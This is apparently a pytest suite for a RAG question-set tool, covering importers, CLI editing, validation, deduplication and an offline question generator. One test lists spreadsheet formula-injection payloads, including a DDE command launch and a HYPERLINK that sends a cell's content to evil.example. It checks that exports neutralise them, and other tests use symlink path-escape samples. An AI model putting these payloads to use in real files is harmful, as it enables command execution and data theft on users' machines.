"""Question sets: every bad-input case named, importers that never crash, the CLI, and the
offline generator measured against the reference bot."""

import csv
import json
import os
import shutil
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ragpipe.cli import main
from ragpipe.core.inputs.bot_config import BotConfig
from ragpipe.core.inputs.bots import ReferenceBot
from ragpipe.core.inputs.corpus import load_corpus
from ragpipe.core.evidence.entities import load_graph_entities
from ragpipe.core.inputs.question_gen import generate_offline
from ragpipe.core.inputs.questions import load_question_file, load_questions
from ragpipe.core.schemas import InputError, InputErrors
from ragpipe_tests.conftest import SAMPLE

GOOD = {"id": "q1", "question": "补贴多少？", "ground_truth_answer": "1万元。"}


def problems_of(path: Path) -> set[tuple[int | None, str]]:
    with pytest.raises((InputError, InputErrors)) as caught:
        load_question_file(path)
    found = caught.value.problems if isinstance(caught.value, InputErrors) else [caught.value]
    return {(p.line, p.field) for p in found}


@pytest.mark.parametrize("record, field", [
    ({"id": "q1", "ground_truth_answer": "x"}, "question"),
    ({"id": "q1", "question": "   ", "ground_truth_answer": "x"}, "question"),
    ({"id": "q1", "question": "q", "ground_truth_answer": ""}, "ground_truth_answer"),
    ({"id": "q1", "question": "q" * 4001, "ground_truth_answer": "x"}, "question"),
    ({"id": "q1", "question": 42, "ground_truth_answer": "x"}, "question"),
    ({"id": "q1", "question": "q", "ground_truth_answer": "x", "ground_truth_contexts": 5}, "ground_truth_contexts"),
    ({"id": "q1", "question": "q", "ground_truth_answer": "x", "question_type": "OPINION"}, "question_type"),
    ({"id": ["q1"], "question": "q", "ground_truth_answer": "x"}, "question_id"),
])
def test_each_bad_field_is_named_with_its_line(tmp_path, record, field):
    path = tmp_path / "q.jsonl"
    path.write_text(json.dumps(GOOD) + "\n" + json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    found = problems_of(path)
    assert (2, field) in {(line, f.split(".")[0]) for line, f in found}


def test_duplicate_ids_across_files_and_unknown_chunks(tmp_path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "doc.md").write_text("# T\n\n第一段。\n", encoding="utf-8")
    (tmp_path / "questions").mkdir()
    (tmp_path / "questions" / "a.jsonl").write_text(json.dumps(GOOD) + "\n", encoding="utf-8")
    (tmp_path / "questions" / "b.csv").write_text("id,question,ground_truth,contexts\nq1,再问？,答。,doc#7\n",
                                                  encoding="utf-8")
    with pytest.raises(InputErrors) as caught:
        load_questions(tmp_path, {c.chunk_id for c in load_corpus(tmp_path)})
    assert {(p.field, p.line) for p in caught.value.problems} == {("id", 2), ("ground_truth_contexts", 2)}
    assert all(p.file.endswith("b.csv") for p in caught.value.problems)


def test_not_a_list_binary_and_wrong_encoding(tmp_path):
    (tmp_path / "a.json").write_text('{"question": "not in a list"}', encoding="utf-8")
    assert problems_of(tmp_path / "a.json") == {(None, "questions")}
    (tmp_path / "b.jsonl").write_bytes(b"\xff\xfe\x00\x81\x00garbage\n")
    assert problems_of(tmp_path / "b.jsonl") in ({(None, "encoding")}, {(1, "json")})


def test_excel_import_with_chinese_headers_typed_cells_and_row_numbers(tmp_path):
    import openpyxl

    from ragpipe.core.inputs.questions import write_question_file

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([])  # a blank first row: the header is the first non-empty one
    sheet.append(["编号", "问题", "标准答案", "参考上下文", "问题类型"])
    sheet.append([7, "深圳创业补贴多少？", 10000, "doc#0|doc#1", "factual"])
    sheet.append(["q8", None, "缺少问题。", None, "OPINION"])
    book.save(tmp_path / "q.xlsx")
    assert problems_of(tmp_path / "q.xlsx") == {(4, "question"), (4, "question_type")}  # Excel's row numbers

    sheet.delete_rows(4)
    book.save(tmp_path / "q.xlsx")
    (loaded,) = load_question_file(tmp_path / "q.xlsx")
    assert (loaded.question_id, loaded.ground_truth_answer, loaded.ground_truth_contexts, loaded.source) == (
        "7", "10000", ["doc#0", "doc#1"], "q.xlsx:3")
    write_question_file(tmp_path / "out.xlsx", [loaded])
    assert load_question_file(tmp_path / "out.xlsx")[0].model_dump(exclude={"source"}) == \
        loaded.model_dump(exclude={"source"})
    (tmp_path / "fake.xlsx").write_text("id,question\n", encoding="utf-8")
    assert problems_of(tmp_path / "fake.xlsx") == {(None, "xlsx")}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode),
                      st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=20),
                                   lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
                                       st.sampled_from(["id", "question", "问题", "ground_truth", "标准答案",
                                                        "contexts", "type", "x"]), inner, max_size=5),
                                   max_leaves=12).map(lambda v: json.dumps(v).encode())),
       suffix=st.sampled_from([".csv", ".json", ".jsonl", ".xlsx"]))
def test_random_bytes_never_crash_the_importer(tmp_path, data, suffix):
    path = tmp_path / f"fuzz{suffix}"
    path.write_bytes(data)
    try:
        load_question_file(path)
    except (InputError, InputErrors) as exc:
        assert str(path) in str(exc)


@pytest.fixture
def dataset(tmp_path):
    shutil.copytree(SAMPLE / "datasets" / "policy_zh", tmp_path / "datasets" / "policy_zh")
    return tmp_path


def q(dataset, *argv):
    return main(["questions", "--data-dir", str(dataset), "--dataset", "policy_zh", *argv])


def test_cli_add_edit_delete_export_merge_validate(dataset, tmp_path, capsys):
    assert q(dataset, "add", "--id", "new-1", "--question", "深圳创业补贴多少？", "--answer", "1万元。",
             "--contexts", "shenzhen_chuangye_butie#1", "--type", "factual", "--file", "extra.csv") == 0
    assert q(dataset, "edit", "new-1", "--answer", "一次性创业补贴1万元。") == 0
    assert load_question_file(dataset / "datasets" / "policy_zh" / "questions" / "extra.csv")[0].ground_truth_answer \
        == "一次性创业补贴1万元。"
    assert q(dataset, "add", "--id", "new-1", "--question", "重复？", "--answer", "是。") == 1
    assert "duplicate id 'new-1'" in capsys.readouterr().err

    out = tmp_path / "all.json"
    assert q(dataset, "export", "--output", str(out)) == 0
    exported = json.loads(out.read_text(encoding="utf-8"))
    assert len(exported) == 48 and "new-1" in {e["id"] for e in exported}
    assert q(dataset, "merge", str(out), str(out), "--output", str(tmp_path / "merged.jsonl")) == 0
    assert len(load_question_file(tmp_path / "merged.jsonl")) == 48

    assert q(dataset, "delete", "new-1") == 0
    assert q(dataset, "validate") == 0
    bad = dataset / "datasets" / "policy_zh" / "questions" / "bad.jsonl"
    bad.write_text('{"id": "b1", "question": ""}\n{"id": "zh-001", "question": "x", "ground_truth_answer": "y"}\n',
                   encoding="utf-8")
    capsys.readouterr()
    assert q(dataset, "validate") == 1
    err = capsys.readouterr().err
    assert f"{bad}:1: field 'question'" in err and f"{bad}:1: field 'ground_truth_answer'" in err
    assert "field 'id': duplicate id 'zh-001' (first in bad.jsonl:2)" in err


def test_cli_add_and_edit_validate_before_writing(dataset, capsys):
    folder = dataset / "datasets" / "policy_zh" / "questions"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    assert q(dataset, "add", "--id", "new-1", "--question", "深圳创业补贴多少？", "--answer", "1万元。",
             "--contexts", "shenzhen_chuangye_butie#99") == 1
    assert "field 'ground_truth_contexts': unknown chunk ids ['shenzhen_chuangye_butie#99']" in capsys.readouterr().err
    assert q(dataset, "edit", "zh-001", "--contexts", "no_such_doc#1") == 1
    assert "unknown chunk ids ['no_such_doc#1']" in capsys.readouterr().err
    assert q(dataset, "edit", "zh-001", "--type", "观点") == 1
    assert f"{folder / 'questions.jsonl'}: field 'question_type'" in capsys.readouterr().err
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before  # nothing written
    assert q(dataset, "validate") == 0  # so the question set still loads


def test_chinese_question_types_are_accepted_as_the_canonical_value(dataset, tmp_path):
    rows = [{**GOOD, "id": f"q{i}", "question_type": t}
            for i, t in enumerate(["事实", "推理", "事实性问题", "推理性", "自定义", "factual", " Inferential "])]
    path = tmp_path / "q.jsonl"
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    assert [x.question_type.value for x in load_question_file(path)] == [
        "FACTUAL", "INFERENTIAL", "FACTUAL", "INFERENTIAL", "USER_DEFINED", "FACTUAL", "INFERENTIAL"]
    assert q(dataset, "add", "--id", "new-2", "--question", "深圳创业补贴多少？", "--answer", "1万元。",
             "--type", "推理", "--file", "extra.jsonl") == 0
    stored = dataset / "datasets" / "policy_zh" / "questions" / "extra.jsonl"
    assert json.loads(stored.read_text(encoding="utf-8"))["question_type"] == "INFERENTIAL"
    assert q(dataset, "edit", "new-2", "--type", "事实") == 0
    assert load_question_file(stored)[0].question_type.value == "FACTUAL"
    assert q(dataset, "generate", "--offline", "--types", "事实", "--per-doc", "1", "--output", "gen.jsonl") == 0
    with pytest.raises(SystemExit):  # argparse: not a type the generators make
        q(dataset, "generate", "--offline", "--types", "观点")


def test_dedupe_finds_a_reworded_copy(dataset, capsys):
    assert q(dataset, "add", "--id", "dup-1", "--question", "一家小公司去年应纳税所得额不到300万元，员工和资产也都达标，企业所得税实际负担是多少",
             "--answer", "5%。") == 0
    assert q(dataset, "dedupe", "--threshold", "0.97") == 0
    assert "zh-001 ~ dup-1" in capsys.readouterr().out
    assert q(dataset, "dedupe", "--threshold", "0.97", "--apply") == 0
    ids = [x.question_id for x in load_question_file(dataset / "datasets" / "policy_zh" / "questions" / "questions.jsonl")]
    assert "dup-1" not in ids and "zh-001" in ids


def test_offline_generator_makes_answerable_retrievable_questions(embedder):
    folder = SAMPLE / "datasets" / "policy_zh"
    chunks = load_corpus(folder)
    questions = generate_offline(chunks, per_document=3, graph=load_graph_entities(folder))
    assert len(questions) >= 30
    by_id = {c.chunk_id: c.text for c in chunks}
    for question in questions:
        assert question.question.endswith("？") and question.origin.startswith("offline-extractive")
        assert question.ground_truth_answer in by_id[question.ground_truth_contexts[0]]  # answerable from its context
        assert question.question != question.ground_truth_answer
    bot = ReferenceBot(BotConfig(name="ref", version="top5", kind="reference",
                                 retrieval={"method": "hybrid", "top_k": 5}), chunks, embedder)
    hits = sum(q.ground_truth_contexts[0] in bot.ask(q.question_id, q.question).retrieved_ids for q in questions)
    print(f"\noffline generator: {len(questions)} questions, ground-truth chunk in the top 5 for "
          f"{hits}/{len(questions)} ({hits / len(questions):.0%})")
    assert hits / len(questions) >= 0.8


def test_question_set_data_version_follows_content_and_metadata_names_origins(tmp_path):
    import dagster as dg

    from ragpipe.defs.definitions import build_defs
    from ragpipe.defs.jobs import DATASET_ASSETS
    from ragpipe.defs.partitions import datasets
    from ragpipe.defs.resources import ProjectPaths

    data = tmp_path / "data"
    shutil.copytree(SAMPLE / "datasets" / "policy_zh", data / "datasets" / "policy_zh")
    folder = data / "datasets" / "policy_zh" / "questions"
    generated = {"id": "gen-001", "question": "深圳市对首次创业的个人给予多少一次性创业补贴？",
                 "ground_truth_answer": "1万元。", "ground_truth_contexts": ["shenzhen_chuangye_butie#1"],
                 "origin": "llm-questions/1 model=m prompt=question_generation@1.0:0123456789abcdef "
                           "from shenzhen_chuangye_butie#1"}
    (folder / "generated.jsonl").write_text(json.dumps(generated, ensure_ascii=False) + "\n", encoding="utf-8")
    paths = ProjectPaths(data_dir=str(data), output_dir=str(tmp_path / "out"), warehouse_dir=str(tmp_path / "wh"))
    instance = dg.DagsterInstance.ephemeral()
    instance.add_dynamic_partitions(datasets.name, ["policy_zh"])

    def materialize() -> tuple[str, dict]:
        result = dg.materialize(DATASET_ASSETS, partition_key="policy_zh", instance=instance,
                                resources={**build_defs(tmp_path).resources, "paths": paths})
        (event,) = result.asset_materializations_for_node("question_set")
        return event.tags["dagster/data_version"], event.metadata["provenance"].value

    first, provenance = materialize()
    assert provenance == {"generated.jsonl": {"llm-questions/1 model=m prompt=question_generation@1.0:0123456789abcdef": 1},
                          "questions.jsonl": {"written": 47}}
    assert materialize()[0] == first  # unchanged files: same version, downstream does not re-run
    (folder / "generated.jsonl").touch()
    assert materialize()[0] == first  # a newer mtime is not a change
    generated["ground_truth_answer"] = "一次性创业补贴1万元。"
    (folder / "generated.jsonl").write_text(json.dumps(generated, ensure_ascii=False) + "\n", encoding="utf-8")
    assert materialize()[0] != first


def test_unreadable_entries_in_questions_are_named_and_excel_lock_files_ignored(dataset, tmp_path, capsys):
    folder = dataset / "datasets" / "policy_zh" / "questions"
    (folder / "~$questions.xlsx").write_bytes(b"\x0bExcel owner file\x00")  # there while the workbook is open
    assert q(dataset, "validate") == 0
    (folder / "extra.csv").mkdir()
    (folder / "gone.jsonl").symlink_to(folder / "missing.jsonl")
    (folder / "loop_a.jsonl").symlink_to(folder / "loop_b.jsonl")
    (folder / "loop_b.jsonl").symlink_to(folder / "loop_a.jsonl")
    (tmp_path / "outside.csv").write_text("id,question,answer\nx1,Secret?,Yes.\n", encoding="utf-8")
    (folder / "leak.csv").symlink_to(tmp_path / "outside.csv")
    os.mkfifo(folder / "pipe.jsonl")
    capsys.readouterr()
    assert q(dataset, "validate") == 1
    err = capsys.readouterr().err
    for name, why in [("extra.csv", "is a directory"), ("gone.jsonl", "cannot be resolved"),
                      ("loop_a.jsonl", "cannot be resolved"), ("leak.csv", "outside its folder"),
                      ("pipe.jsonl", "is a FIFO")]:
        assert f"{folder / name}: field 'file': " in err and why in err, name
    assert "~$questions.xlsx" not in err


def test_a_run_names_unreadable_inputs_and_records_skipped_documents(project, capsys):
    import dagster as dg

    dataset = project / "data" / "datasets" / "product_en"
    (project / "secret.md").write_text("# Secret\n\nroot:x:0:0\n", encoding="utf-8")
    (dataset / "docs" / "leak.md").symlink_to(project / "secret.md")
    (dataset / "questions" / "extra.csv").mkdir()
    assert main(["run", "--project-dir", str(project), "--dataset", "product_en", "--bot", "refbot@v1"]) == 1
    errors = capsys.readouterr().err
    assert f"{dataset / 'questions' / 'extra.csv'}: field 'file': is a directory, not a regular file" in errors
    assert "DagsterExecutionStepExecutionError" not in errors
    with dg.DagsterInstance.get() as instance:
        corpus = instance.get_latest_materialization_event(dg.AssetKey("corpus")).asset_materialization
    assert [s["file"] for s in corpus.metadata["skipped"].data] == [str(dataset / "docs" / "leak.md")]
    chunks = pd.read_parquet(project / ".ragpipe" / "warehouse" / "corpus" / "product_en.parquet")
    assert "leak" not in set(chunks["doc_id"])


def _workbook_with_more_than_questions(path: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "questions"
    sheet.append(["id", "question", "answer", "reviewer", "notes"])
    sheet.append(["x1", "深圳创业补贴多少？", "1万元。", "王芳", "checked"])
    sheet.append(["x2", "Who pays?", "The employer.", "Li", "=LEN(B3)"])
    book.create_sheet("changelog").append(["2026-01-05", "first draft"])
    book.save(path)


def test_edit_and_delete_keep_other_sheets_and_unknown_columns_of_a_workbook(dataset):
    import openpyxl

    path = dataset / "datasets" / "policy_zh" / "questions" / "review.xlsx"
    _workbook_with_more_than_questions(path)
    assert q(dataset, "edit", "x1", "--answer", "一次性补贴1万元。", "--type", "factual") == 0
    assert q(dataset, "delete", "x2") == 0
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["questions", "changelog"]
    assert [list(r) for r in book["questions"].iter_rows(values_only=True)] == [
        ["id", "question", "answer", "reviewer", "notes", "question_type"],
        ["x1", "深圳创业补贴多少？", "一次性补贴1万元。", "王芳", "checked", "FACTUAL"]]
    assert list(book["changelog"].iter_rows(values_only=True)) == [("2026-01-05", "first draft")]
    assert q(dataset, "add", "--id", "x3", "--question", "何时申报？", "--answer", "每年5月。", "--file", "review.xlsx") == 0
    assert openpyxl.load_workbook(path).sheetnames == ["questions", "changelog"]
    assert [x.question_id for x in load_question_file(path)] == ["x1", "x3"]


@pytest.mark.parametrize("name, text", [
    ("review.csv", "编号,问题,标准答案,审核人\nx1,深圳创业补贴多少？,1万元。,王芳\nx2,Who pays?,The employer.,Li\n"),
    ("review.jsonl", '{"id": "x1", "question": "深圳创业补贴多少？", "answer": "1万元。", "reviewer": "王芳"}\n'
                     '{"id": "x2", "question": "Who pays?", "answer": "The employer.", "reviewer": "Li"}\n'),
    ("review.json", json.dumps({"version": 3, "questions": [
        {"id": "x1", "question": "深圳创业补贴多少？", "answer": "1万元。", "reviewer": "王芳"},
        {"id": "x2", "question": "Who pays?", "answer": "The employer.", "reviewer": "Li"}]}, ensure_ascii=False)),
])
def test_edit_and_delete_keep_the_columns_and_keys_of_text_files(dataset, name, text):
    path = dataset / "datasets" / "policy_zh" / "questions" / name
    path.write_text(text, encoding="utf-8")
    assert q(dataset, "edit", "x1", "--answer", "一次性补贴1万元。") == 0
    assert q(dataset, "delete", "x2") == 0
    assert q(dataset, "add", "--id", "x3", "--question", "何时申报？", "--answer", "每年5月。", "--file", name) == 0
    written = path.read_text(encoding="utf-8")
    assert "王芳" in written and "The employer." not in written
    if name.endswith(".csv"):
        assert written.startswith("编号,问题,标准答案,审核人,")
    else:
        records = ([json.loads(line) for line in written.splitlines()] if name.endswith(".jsonl")
                   else json.loads(written)["questions"])
        assert records[0] == {"id": "x1", "question": "深圳创业补贴多少？", "answer": "一次性补贴1万元。", "reviewer": "王芳"}
        assert name.endswith(".jsonl") or json.loads(written)["version"] == 3
    assert [(x.question_id, x.ground_truth_answer) for x in load_question_file(path)] == [
        ("x1", "一次性补贴1万元。"), ("x3", "每年5月。")]


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1,"详情")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_export_writes_no_live_formula_and_imports_the_text_back(dataset, tmp_path):
    import openpyxl

    folder = dataset / "datasets" / "policy_zh" / "questions"
    (folder / "formulas.jsonl").write_text("".join(
        json.dumps({"id": f"f{i}", "question": text, "ground_truth": text}, ensure_ascii=False) + "\n"
        for i, text in enumerate(FORMULAS)), encoding="utf-8")
    assert q(dataset, "export", "--output", str(tmp_path / "all.csv")) == 0
    with open(tmp_path / "all.csv", encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert q(dataset, "export", "--output", str(tmp_path / "all.xlsx")) == 0
    sheet = openpyxl.load_workbook(tmp_path / "all.xlsx").active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    for exported in (tmp_path / "all.csv", tmp_path / "all.xlsx"):
        back = {x.question_id: x.question for x in load_question_file(exported)}
        assert [back[f"f{i}"] for i in range(len(FORMULAS))] == FORMULAS


def test_validate_checks_files_on_their_own_before_import(dataset, tmp_path, capsys):
    good = tmp_path / "good.csv"
    good.write_text("问题,标准答案,参考上下文\n深圳创业补贴多少？,1万元。,no-such-chunk#9\n", encoding="utf-8")
    assert main(["questions", "validate", str(good)]) == 0  # no dataset: its contexts are not checked
    assert "1 questions in 1 file(s): no problems" in capsys.readouterr().out
    # with a dataset, the contexts are checked against its corpus, as on import
    assert main(["questions", "--data-dir", str(dataset), "--dataset", "policy_zh", "validate", str(good)]) == 1
    assert f"{good}:2: field 'ground_truth_contexts': unknown chunk ids ['no-such-chunk#9']" in capsys.readouterr().err
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"id": "q1", "question": "", "ground_truth_answer": "y"}\n'
                   '{"id": "q2", "question": "x", "ground_truth_answer": "y", "type": "bogus"}\n'
                   '{"id": "q3", "question": "x", "ground_truth_answer": "y"}\n', encoding="utf-8")
    other = tmp_path / "other.json"
    other.write_text(json.dumps([{"id": "q3", "question": "z", "ground_truth_answer": "w"}]), encoding="utf-8")
    missing, wrong = tmp_path / "missing.csv", tmp_path / "notes.txt"
    wrong.write_text("question\nx\n", encoding="utf-8")
    assert main(["questions", "validate", str(bad), str(other), str(missing), str(wrong)]) == 1
    err = capsys.readouterr().err
    assert f"{bad}:1: field 'question'" in err and f"{bad}:2: field 'question_type'" in err
    assert f"{other}:1: field 'id': duplicate id 'q3' (first in bad.jsonl:3)" in err
    assert f"{missing}: field 'file': cannot be resolved" in err
    assert f"{wrong}: field 'file': expected one of .csv, .json, .jsonl, .xlsx" in err
    assert "Traceback" not in err
    assert main(["questions", "list"]) == 2  # only `validate FILE` goes without a dataset
    assert "--dataset is required" in capsys.readouterr().err
